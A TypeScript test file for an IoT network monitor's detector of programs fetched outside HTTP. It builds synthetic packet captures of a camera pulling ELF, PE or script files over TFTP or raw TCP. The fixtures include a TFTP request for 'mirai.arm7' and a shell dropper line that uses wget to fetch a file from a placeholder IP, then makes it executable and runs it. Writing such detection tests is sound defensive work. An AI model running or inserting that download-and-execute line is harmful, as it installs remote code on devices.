/**
 * Programs fetched outside HTTP (src/features/raw-program.ts): an ELF, a PE (with its `PE\0\0`
 * header where `e_lfanew` points) or a script (`#!/bin/sh`) sent to a device as TFTP's first data
 * block, or as the first bytes of a bare TCP stream (FTP's data connection, a loader's socket),
 * is a malware_download; a stream that starts with random bytes or with a two-byte `MZ` is not.
 */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gunzipSync } from 'node:zlib';
import { afterAll, describe, expect, it } from 'vitest';
import { records, REPO, runCli } from '../helpers/cli.js';

const GATEWAY_MAC = '581122431e37';
const CAMERA_MAC = 'a41162969a67';
const CAMERA = [192, 168, 1, 2];
const SERVER = [203, 0, 113, 9];

interface Segment {
  fromCamera: boolean;
  proto: 6 | 17;
  sport: number;
  dport: number;
  flags?: number;
  payload: Buffer;
}

function frame(s: Segment): Buffer {
  const l4len = s.proto === 6 ? 20 : 8;
  const f = Buffer.alloc(14 + 20 + l4len + s.payload.length);
  Buffer.from(s.fromCamera ? GATEWAY_MAC + CAMERA_MAC : CAMERA_MAC + GATEWAY_MAC, 'hex').copy(f, 0);
  f.writeUInt16BE(0x0800, 12);
  f.writeUInt8(0x45, 14);
  f.writeUInt16BE(20 + l4len + s.payload.length, 16);
  f.writeUInt8(64, 22);
  f.writeUInt8(s.proto, 23);
  Buffer.from(s.fromCamera ? [...CAMERA, ...SERVER] : [...SERVER, ...CAMERA]).copy(f, 26);
  f.writeUInt16BE(s.sport, 34);
  f.writeUInt16BE(s.dport, 36);
  if (s.proto === 6) {
    f.writeUInt32BE(1000, 38);
    f.writeUInt32BE(1000, 42);
    f.writeUInt8(5 << 4, 46);
    f.writeUInt8(s.flags ?? 0x18, 47);
    f.writeUInt16BE(65535, 48);
  } else f.writeUInt16BE(8 + s.payload.length, 38);
  s.payload.copy(f, 14 + 20 + l4len);
  return f;
}

/** The demo home with `segments` appended a second apart after its last packet. */
function demoWith(dir: string, name: string, segments: Segment[]): string {
  const demo = gunzipSync(readFileSync(join(REPO, 'datasets/demo-home/vacuum.pcap.gz')));
  let last = 0;
  for (let off = 24; off + 16 <= demo.length; off += 16 + demo.readUInt32LE(off + 8))
    last = demo.readUInt32LE(off);
  const parts: Buffer[] = [demo];
  segments.forEach((s, i) => {
    const f = frame(s);
    const rec = Buffer.alloc(16);
    rec.writeUInt32LE(last + 5 + i, 0);
    rec.writeUInt32LE(f.length, 8);
    rec.writeUInt32LE(f.length, 12);
    parts.push(rec, f);
  });
  const out = join(dir, `${name}.pcap`);
  writeFileSync(out, Buffer.concat(parts));
  return out;
}

const ELF = Buffer.concat([
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 1, 1, 1, 0]),
  Buffer.alloc(504, 7),
]);

/** A TCP connection the camera opens to SERVER:port, whose first data from it is `first`. */
function stream(port: number, first: Buffer): Segment[] {
  const c = { proto: 6 as const, sport: 40_000, dport: port, payload: Buffer.alloc(0) };
  const s = { proto: 6 as const, sport: port, dport: 40_000, payload: Buffer.alloc(0) };
  return [
    { ...c, fromCamera: true, flags: 0x02 },
    { ...s, fromCamera: false, flags: 0x12 },
    { ...c, fromCamera: true, flags: 0x10 },
    { ...s, fromCamera: false, payload: first },
  ];
}

function malware(pcap: string): Record<string, unknown>[] {
  return records(runCli(['replay', pcap, '--out', '-']).stdout).filter(
    (r) => r.type === 'alert' && r.behaviour === 'malware_download' && r.state === 'open',
  );
}

describe('programs fetched outside HTTP', () => {
  const dir = mkdtempSync(join(tmpdir(), 'hw-raw-elf-'));
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('an ELF over TFTP (read request, then data block 1 from a new port) is named', () => {
    const rrq = Buffer.concat([Buffer.from([0, 1]), Buffer.from('mirai.arm7\0octet\0')]);
    const data = Buffer.concat([Buffer.from([0, 3, 0, 1]), ELF]);
    const pcap = demoWith(dir, 'tftp', [
      { fromCamera: true, proto: 17, sport: 41_000, dport: 69, payload: rrq },
      { fromCamera: false, proto: 17, sport: 51_234, dport: 41_000, payload: data },
      {
        fromCamera: true,
        proto: 17,
        sport: 41_000,
        dport: 51_234,
        payload: Buffer.from([0, 4, 0, 1]),
      },
    ]);
    const found = malware(pcap);
    expect(found.map((r) => r.mac)).toEqual(['a4:11:62:96:9a:67']);
    expect(found[0].summary).toMatch(
      /downloaded a Linux program \(ELF\) from a bare IP address .*tftp:\/\/203\.0\.113\.9\//,
    );
  });

  it('an ELF as the first bytes of a TCP stream (an FTP data connection) is named', () => {
    const found = malware(demoWith(dir, 'stream', stream(30_123, ELF)));
    expect(found.map((r) => r.mac)).toEqual(['a4:11:62:96:9a:67']);
    expect(found[0].summary).toContain('a bare stream from 203.0.113.9:30123');
  });

  it('a PE as the first bytes of a stream, and a script over TFTP, are named', () => {
    const pe = Buffer.alloc(512, 0);
    pe.write('MZ', 0, 'latin1');
    pe.writeUInt32LE(0x80, 0x3c);
    pe.write('PE\0\0', 0x80, 'latin1');
    const found = malware(demoWith(dir, 'pe', stream(30_126, pe)));
    expect(found[0]?.summary).toMatch(/downloaded a Windows program \(PE\) from a bare IP/);
    const sh = Buffer.from('#!/bin/sh\ncd /tmp; wget http://203.0.113.9/x; chmod +x x; ./x\n');
    const script = demoWith(dir, 'script', [
      {
        fromCamera: false,
        proto: 17,
        sport: 51_235,
        dport: 41_001,
        payload: Buffer.concat([Buffer.from([0, 3, 0, 1]), sh]),
      },
    ]);
    expect(malware(script)[0]?.summary).toMatch(/downloaded a script from a bare IP .*tftp:\/\//);
  });

  it('a stream that starts with random bytes, or with MZ, is no download', () => {
    const random = Buffer.from(Array.from({ length: 512 }, (_, i) => (i * 73 + 11) & 255));
    expect(malware(demoWith(dir, 'random', stream(30_124, random)))).toEqual([]);
    const mz = Buffer.concat([Buffer.from('MZ'), random]);
    expect(malware(demoWith(dir, 'mz', stream(30_125, mz)))).toEqual([]);
  });
});
